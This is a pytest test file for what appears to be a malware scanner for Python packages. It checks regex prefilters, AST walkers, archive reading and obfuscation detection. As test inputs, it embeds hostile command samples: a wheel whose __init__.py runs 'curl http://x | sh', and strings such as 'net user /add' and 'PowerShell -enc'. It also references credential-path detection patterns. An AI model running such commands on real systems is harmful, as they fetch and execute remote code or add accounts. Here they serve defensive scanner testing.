"""The packages layer's shortcuts give exactly what the plain computation gives."""

from __future__ import annotations

import ast
import gc
import io
import os
import re
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from outwork.analyzers.packages import data as tables
from outwork.analyzers.packages import flow, pyscan, structure, syntax
from outwork.analyzers.packages.facts import Scope
from outwork.analyzers.packages.keywords import Keywords
from outwork.analyzers.packages.package import collector_paused, read_archive
from outwork.analyzers.packages.signals import Context
from outwork.core.fold import Ref

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "rules"
PATTERNS = {
    name: value for name, value in vars(tables).items() if isinstance(value, tables.Prefiltered)
}


def fixture_texts() -> list[str]:
    texts = [
        p.read_text("utf-8", "replace")
        for p in sorted(FIXTURES.glob("PKG*/**/*"))
        if p.is_file() and p.stat().st_size < 1 << 20
    ]
    assert texts
    return texts


def plain_search(pattern: tables.Prefiltered, text: str) -> re.Match[str] | None:
    lower = text.lower()
    if not any(k in lower for k in pattern.keywords):
        return None
    return pattern.regex.search(text)


@pytest.mark.parametrize("name", sorted(PATTERNS))
def test_prefiltered_search_matches_plain_case_insensitive_search(name: str) -> None:
    pattern = PATTERNS[name]
    texts = fixture_texts()
    texts += [line for text in texts for line in text.splitlines()]
    # every alternative's own words, in upper, lower and mixed case, inside other text
    words = re.findall(r"[A-Za-z][\w .-]{2,}", pattern.regex.pattern)
    for word in words:
        for variant in (word, word.upper(), word.lower(), word.swapcase()):
            texts += [variant, f"x {variant}/y", f"~/{variant}\\z", "é " + variant]
            texts += ["\u00e9" + variant.replace("s", "\u017f"), variant.replace("i", "\u0130")]
            texts += ["\u00c9t\u00e9 " + variant + " \u2014 fin", "\u212a" + variant]
    texts += ["reg\tadd", "net  user /add", "CURL http://x", "PowerShell -enc " + "A" * 20]
    for text in texts:
        expected, got = plain_search(pattern, text), pattern.search(text)
        assert (expected and (expected.span(), expected.group(0))) == (
            got and (got.span(), got.group(0))
        ), (name, text[:200])


@pytest.mark.parametrize("name", sorted(PATTERNS))
def test_long_texts_searched_line_by_line_give_the_plain_search(name: str) -> None:
    """Long texts go through the keyword lines only (for patterns proven line-bound): the
    match is still the leftmost one, with keywords on lines that do not match before it."""
    pattern = PATTERNS[name]
    words = re.findall(r"[A-Za-z][\w .-]{2,}", pattern.regex.pattern)
    filler = "x = compute(value)  # nothing here\n" * 20
    lines = [f"see {k} here" for k in pattern.keywords] + [
        f"p = '~/{w}/{w.upper()}'" for w in words
    ]
    texts = [filler + "\n".join(lines[i:] + lines[:i]) + "\n" + filler for i in range(len(lines))]
    texts += [filler + line for line in lines] + [line + "\n" + filler for line in lines]
    texts += [filler, filler + "\u00e9" + filler, "\n".join(fixture_texts())]
    for text in texts:
        expected, got = plain_search(pattern, text), pattern.search(text)
        assert (expected and (expected.span(), expected.group(0))) == (
            got and (got.span(), got.group(0))
        ), (name, text[:200])


def test_line_bound_proves_only_what_holds() -> None:
    assert tables.line_bound(r"foo\.bar|baz[/\\]qux", ("foo.bar", "baz"))
    assert not tables.line_bound(r"foo\s+bar", ("foo",))  # \s matches a line break
    assert not tables.line_bound(r"foo.bar", ("foo",))
    assert not tables.line_bound(r"foo[^x]bar", ("foo",))
    assert not tables.line_bound(r"^foo", ("foo",))
    assert not tables.line_bound(r"fooz?|bar", ("fooz", "bar"))  # "z" is optional
    assert not tables.line_bound(r"(foo)bar|baz", ("foo", "baz"))  # inside a group
    assert not tables.line_bound(r"foo|qux", ("foo",))  # an alternative without a keyword
    assert tables.CREDENTIAL_PATH_RE.by_line and tables.ANTI_ANALYSIS_RE.by_line


def test_fold_literals_keeps_escapes() -> None:
    assert tables.fold_literals(r"A\SB\D[A-Z]") == r"a\Sb\D[a-z]"


SOURCE = """
import os, base64
@deco(call())
def f(x, *a, k=g(), **kw):
    class C(Base(h())):
        def m(self): return self.n(lambda y: y(z()))
    return [i(j) for j in k(l) if m(j)] + {p(): q() for _ in r()}
async def g():
    async with a(b()) as c, d() as e:
        await c(e(f"{x(1)!r:>{w()}}"))
match cmd():
    case [x, *_] if y(x):
        z()
try:
    t()
except (E(), F) as err:
    u(err)
finally:
    v()
"""


def test_walkers_keep_ast_walk_order() -> None:
    tree = ast.parse(SOURCE)
    for root in [tree, *ast.walk(tree)]:
        leaves = (ast.expr_context, ast.operator, ast.cmpop, ast.unaryop, ast.boolop, ast.alias)
        expected = [n for n in ast.walk(root) if not isinstance(n, leaves) or n is root]
        assert syntax.nodes(root) == expected


def test_calls_no_defs_keeps_depth_first_order() -> None:
    def reference(node: ast.AST) -> list[ast.Call]:
        stack, out = [node], []
        while stack:
            current = stack.pop()
            if isinstance(current, ast.Call):
                out.append(current)
            stack.extend(
                c
                for c in ast.iter_child_nodes(current)
                if not isinstance(c, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef)
            )
        return out

    tree = ast.parse(SOURCE)
    for root in ast.walk(tree):
        assert syntax.calls_no_defs(root) == reference(root)


def test_runtime_keyword_screen_matches_per_function_search() -> None:
    def plain(source: str, fn: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
        lines = source.splitlines()
        text = "\n".join(lines[fn.lineno - 1 : fn.end_lineno or fn.lineno])
        return not text.isascii() or any(k in text for k in structure._RUNTIME_KEYWORDS.words)

    checked = 0
    for source, functions in sources_with_functions(
        "def a():\n    return 1\r\ndef b():\f    x = 2\n    return x\n"
        "def c():\n    return 'é'\ndef d():\r    exec(x)\ndef e():\n    pass\u2028y = 1\n"
        "def f():\n    return vars(x)\n"
    ):
        # no functions of its own: the screen alone, without the calls of helpers
        screen = structure.Structure(
            source, ast.Module(body=[], type_ignores=[]), whole_file_context=False
        )
        for defs in functions.values():
            for node in defs:
                assert screen._worth(node) == plain(source, node), (source[:80], node.name)
                checked += 1
    assert checked > 20


Functions = dict[str, list[ast.FunctionDef | ast.AsyncFunctionDef]]


def sources_with_functions(extra: str) -> Iterator[tuple[str, Functions]]:
    """The fixtures that define functions, and ``extra``, with their functions by name."""
    for source in [*(t for t in fixture_texts() if "def " in t), extra]:
        try:
            tree = ast.parse(source)
        except (SyntaxError, ValueError):
            continue
        functions: Functions = {}
        for node in ast.walk(tree):
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                functions.setdefault(node.name, []).append(node)
        yield source, functions


def test_keywords_find_every_occurrence_of_every_word() -> None:
    words = ("exec", "exec(", "xec", "é", "Popen", "a")
    index = Keywords(words)
    for text in [
        "",
        "exec(exec(x))",
        "popen Popen éé a\naaa",
        "x" * 1000 + "exec",
        *fixture_texts(),
    ]:
        expected = sorted(i for w in words for i in range(len(text)) if text.startswith(w, i))
        assert sorted(index.starts(text)) == expected


def test_helper_call_lines_match_a_plain_search() -> None:
    def plain(source: str, functions: Functions) -> list[int]:
        lines = source.splitlines()
        marked = {
            i
            for i, line in enumerate(lines)
            if any(w in line for w in structure._HELPER_KEYWORDS.words)
        }
        names = [
            name
            for name, defs in functions.items()
            if len(defs) == 1
            and defs[0].args.args
            and marked & set(range(defs[0].lineno - 1, defs[0].end_lineno or defs[0].lineno))
        ]
        if not names:
            return []
        calls = re.compile(r"\b(?:" + "|".join(map(re.escape, sorted(names))) + r")\(")
        return [i for i, line in enumerate(lines) if calls.search(line)]

    checked = 0
    for source, functions in sources_with_functions(
        "def run(c):\n    os.system(c)\nrun('x')\r\ndef f(u):\n  return urlopen(u)\nf(1); run(2)\n"
    ):
        got = structure._helper_calls(source, functions)
        assert got == plain(source, functions), source[:80]
        checked += bool(got)
    assert checked >= 3


class CountingFile(io.RawIOBase):
    """A file that counts the bytes read from it."""

    def __init__(self, path: Path) -> None:
        self._fh = path.open("rb")
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        return self._fh.seek(offset, whence)

    def tell(self) -> int:
        return self._fh.tell()

    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
        data = self._fh.read(len(buffer))
        buffer[: len(data)] = data
        self.read_bytes += len(data)
        return len(data)

    def close(self) -> None:
        self._fh.close()
        super().close()


LARGE = 4 * 1024 * 1024


def test_large_member_of_a_wheel_is_not_read_whole(tmp_path: Path) -> None:
    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("demo/__init__.py", "import os\n")
        zf.writestr("demo/weights.bin", os.urandom(LARGE))
        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
    stream = CountingFile(wheel)
    with stream:
        files = read_archive(stream, wheel.name)
    assert files is not None
    assert files.texts["demo/__init__.py"] == "import os\n"
    assert files.others["demo/weights.bin"][1] == 8192  # its head only
    assert stream.read_bytes < LARGE // 8


def test_large_member_of_a_tar_is_skipped_not_read(tmp_path: Path) -> None:
    sdist = tmp_path / "demo-1.0.tar"
    with tarfile.open(sdist, "w") as tf:
        for name, data in (
            ("demo-1.0/setup.py", b"from setuptools import setup\nsetup()\n"),
            ("demo-1.0/data.bin", os.urandom(LARGE)),
            ("demo-1.0/PKG-INFO", b"Name: demo\nVersion: 1.0\n"),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    stream = CountingFile(sdist)
    with stream:
        files = read_archive(stream, sdist.name)
    assert files is not None
    assert set(files.texts) == {"demo-1.0/setup.py", "demo-1.0/PKG-INFO"}
    assert stream.read_bytes < LARGE // 8


def test_reading_from_a_file_gives_what_reading_the_bytes_gives(tmp_path: Path) -> None:
    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("demo/__init__.py", "import os\nos.system('curl http://x | sh')\n")
        zf.writestr("demo/lib.so", b"\x7fELF" + bytes(9000))
        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
    with wheel.open("rb") as fh:
        from_file = read_archive(fh, wheel.name)
    from_bytes = read_archive(wheel.read_bytes(), wheel.name)
    assert from_file is not None and from_bytes is not None
    assert (from_file.texts, from_file.others) == (from_bytes.texts, from_bytes.others)


def test_collector_pause_nests_and_restores() -> None:
    assert gc.isenabled()
    with collector_paused():
        assert not gc.isenabled()
        with collector_paused():
            assert not gc.isenabled()
        assert not gc.isenabled()
    assert gc.isenabled()
    gc.disable()
    try:
        with collector_paused():
            pass
        assert not gc.isenabled()  # left as it was found
    finally:
        gc.enable()


def test_definitions_in_ast_walk_order() -> None:
    sources = [SOURCE, *(t for t in fixture_texts() if "def " in t or "class " in t)]
    for source in sources:
        try:
            tree = ast.parse(source)
        except (SyntaxError, ValueError):
            continue
        expected = [n for n in ast.walk(tree) if isinstance(n, syntax.DEFS)]
        assert syntax.definitions_breadth_first(tree) == expected


def test_statements_in_ast_walk_order() -> None:
    blocks = (ast.stmt, ast.excepthandler, ast.match_case)
    sources = [SOURCE, *(t for t in fixture_texts() if "def " in t or "class " in t)]
    for source in sources:
        try:
            tree = ast.parse(source)
        except (SyntaxError, ValueError):
            continue
        for root in [tree, *syntax.definitions_breadth_first(tree)]:
            expected = [n for n in ast.walk(root) if isinstance(n, blocks) or n is root]
            assert syntax.statements_breadth_first(root) == expected


def test_case_folds_to_ascii_covers_every_odd_character() -> None:
    """Characters whose case-insensitive match or lower case would make the case-folded
    search differ from the plain one: exactly those the fast path leaves out."""
    letters, word, space, digit = (
        re.compile("[a-z]", re.IGNORECASE).match,
        re.compile(r"\w").match,
        re.compile(r"\s").match,
        re.compile(r"\d").match,
    )
    odd = []
    for code in range(0x80, sys.maxunicode + 1):
        c = chr(code)
        low = c.lower()
        if c == low and not letters(c):
            continue  # no case: lower-casing leaves it as it is
        if (
            letters(c)
            or len(low) != 1
            or low.isascii()
            or bool(word(c)) != bool(word(low))
            or bool(space(c)) != bool(space(low))
            or bool(digit(c)) != bool(digit(low))
        ):
            odd.append(c)
    assert "".join(odd) == tables.CASE_FOLDS_TO_ASCII.pattern.strip("[]")


def test_dotted_names_resolve_as_folding_resolves_them(monkeypatch: pytest.MonkeyPatch) -> None:
    """``Flow.resolve`` reads dotted names without a folding run; on every name the rule
    fixtures resolve, in the scope each is met in, it gives what the folder gives."""
    fast = flow.Flow.resolve
    compared = 0

    def folded(self: flow.Flow, func: ast.expr, scope: Scope) -> str | None:
        value = self.fold(func, scope)
        if isinstance(value, Ref):
            name = value.name
            for prefix in ("builtins.", "__builtins__."):
                name = name.removeprefix(prefix)
            return name
        return func.id if isinstance(func, ast.Name) else None

    def both(self: flow.Flow, func: ast.expr, scope: Scope) -> str | None:
        nonlocal compared
        steps = self.fold_budget.steps
        expected = folded(self, func, scope)
        self.fold_budget.steps = steps
        got = fast(self, func, scope)
        assert got == expected, ast.unparse(func)
        compared += 1
        return got

    monkeypatch.setattr(flow.Flow, "resolve", both)
    tricky = (
        "import string, os as o\nfrom builtins import exec as e\n__builtins__.eval('1')\n"
        "string.ascii_letters.upper()\no.__name__.join\nbuiltins.open\nglobals()['x']\n"
        "def f(): return 1\nf.x()\nx = 'a'\nx.upper()\ne(o.path.join('a'))\n__builtins__\n"
    )
    own = [Path(m.__file__).read_text() for m in (pyscan, flow, tables) if m.__file__]
    sources = [*fixture_texts(), *own, tricky]
    for source in sources:
        pyscan.PythonScanner(source, "setup.py", Context.INSTALL).run()
    assert compared > 1000


NON_LATIN = (
    "import os\r\n"
    "@декоратор(\r"
    "    'ключ')\n"
    "def plain(x):\n"
    "    return x\n"
    "def функция(аргумент, *, k=lambda параметр: параметр):\n"
    "    '''документ: слово слово'''\n"
    "    return f'{аргумент!r} {os.sep}'\n"
    "class Класс(База):\n"
    "    pass\n"
    "match значение:\n"
    "    case Точка(x=1) if условие:\n"
    "        pass\n"
    "try:\n"
    "    pass\n"
    "except Ошибка as исключение:\n"
    "    pass\n"
    "x = 'строка'  # комментарий\n"
    "caf\u0065\u0301 = 'caf\u00e9'\n"
)


def test_non_ascii_identifiers_read_from_the_lines_that_hold_them() -> None:
    """The walk limited to the statements spanning a line with a character beyond ASCII finds
    every identifier beyond ASCII the whole walk finds: decorators above their ``def``, lone
    ``\\r`` line ends, match cases, lambdas, handlers, a name written decomposed."""
    from outwork.analyzers.packages.rules import obfuscation

    def beyond_ascii(source: str) -> tuple[set[str], set[str]]:
        tree = ast.parse(source)
        lines = obfuscation._non_ascii_lines(source)
        whole = {n for n in obfuscation._identifiers(tree) if not n.isascii()}
        return whole, {n for n in obfuscation._identifiers(tree, lines) if not n.isascii()}

    whole, limited = beyond_ascii(NON_LATIN)
    assert limited == whole
    assert {"caf\u00e9", "декоратор", "параметр", "Точка", "условие", "Ошибка"} <= whole
    for source in (t for t in fixture_texts() if not t.isascii()):
        try:
            whole, limited = beyond_ascii(source)
        except (SyntaxError, ValueError):
            continue
        assert limited == whole


def test_words_beyond_ascii_read_from_the_lines_that_hold_them() -> None:
    """Only the lines with a character beyond ASCII are split into words: the same words, in
    the same order, as splitting the whole text (lone ``\r`` line ends and other line breaks
    included, and words after digits)."""
    from outwork.analyzers.packages.rules import obfuscation

    def whole(text: str) -> list[str]:
        return [w for w in re.findall(r"[^\W\d]\w*", text) if not w.isascii()]

    samples = [NON_LATIN, "a\rпеременная = 1\rb = функция\x0bx\u2028ü\x85é 12ñ", *fixture_texts()]
    for text in samples:
        assert obfuscation.words_beyond_ascii(text) == whole(text)
    assert obfuscation.words_beyond_ascii(NON_LATIN)


def test_non_latin_identifiers_are_counted_in_code_not_in_text() -> None:
    code = "\n".join(["x = 1", "переменная = 1", "функция = переменная", "print(функция)"])
    text = "\n".join(["'''слово слово слово'''", "# комментарий комментарий", "x = 'строка'"])
    for source, expected in ((code, True), (text, False)):
        scanner = pyscan.PythonScanner(source, "pkg/mod.py", Context.IMPORT)
        found = [s for s in scanner.run() if "non-Latin" in s.message]
        assert bool(found) is expected, source
